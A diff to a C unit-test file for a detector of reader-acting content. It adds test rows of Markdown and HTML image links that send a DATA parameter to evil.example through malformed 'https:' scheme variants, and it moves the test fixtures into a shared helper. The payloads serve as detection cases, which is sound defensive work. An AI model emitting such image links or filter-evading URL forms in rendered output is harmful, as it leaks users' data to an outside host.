@@ -1,6 +1,6 @@
 /* What acts on a reader, where its examples need brackets of their own: links of Markdown in each of their
  * forms, sequences of terminals. Whatever the cuts, a stream finds the same. */
-#include "sallyport/detect.h"
+#include "engine_help.h"
 
 #include <setjmp.h>
 #include <stdarg.h>
@@ -14,28 +14,6 @@
 #define CSI "\x1b["
 #define OSC "\x1b]"
 #define TAGS "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7\xf3\xa0\x81\xae"
-
-typedef struct fixture {
-    sp_engine *engine;
-    sp_scratch *scratch;
-} fixture;
-
-static int set_up(void **state)
-{
-    static fixture f;
-    sp_diag diag;
-    if (sp_engine_new(&f.engine, &diag) != SP_OK || sp_scratch_new(&f.scratch, f.engine) != SP_OK) return -1;
-    *state = &f;
-    return 0;
-}
-
-static int tear_down(void **state)
-{
-    fixture *f = *state;
-    sp_scratch_free(f->scratch);
-    sp_engine_free(f->engine);
-    return 0;
-}
 
 /* A text, and what of it has to be found as this kind; NULL: nothing that acts on a reader. */
 typedef struct row {
@@ -64,6 +42,18 @@ static const row rows[] = {
      "it "
      "began as one or as a picture](" EVIL "?q=" DATA ")",
      SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
+    /* ---- what browsers take for "https://" ---- */
+    {"![a](https:/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
+    {"![a](https:evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:evil.example/?q=" DATA},
+    {"![a](https:\\\\evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "https:\\\\evil.example/?q=" DATA},
+    {"![a](HTTP:/\\/evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "HTTP:/\\/evil.example/?q=" DATA},
+    {"![a](https://///////////evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE,
+     "https://///////////evil.example/?q=" DATA},
+    {"![a](///evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "///evil.example/?q=" DATA},
+    {"<img src=\"https:/evil.example/?q=" DATA "\">", SP_KIND_OUTWARD_IMAGE, "https:/evil.example/?q=" DATA},
+    {"see https:evil.example/?q=" DATA " there", SP_KIND_NONE, NULL},
+    {"https: " DATA ", http: none", SP_KIND_NONE, NULL},
+    {"![a](xhttps:/evil.example/?q=" DATA ")", SP_KIND_NONE, NULL},
     /* ---- definitions, which images may refer to ---- */
     {"![x][ref]\n\n[ref]: " EVIL "?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
     {"[1]: <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
@@ -236,5 +226,5 @@ int main(void)
         cmocka_unit_test(an_endless_address_is_found_as_far_as_that),
         cmocka_unit_test(a_long_run_is_found_whole),
     };
-    return cmocka_run_group_tests(tests, set_up, tear_down);
+    return cmocka_run_group_tests(tests, engine_set_up, engine_tear_down);
 }
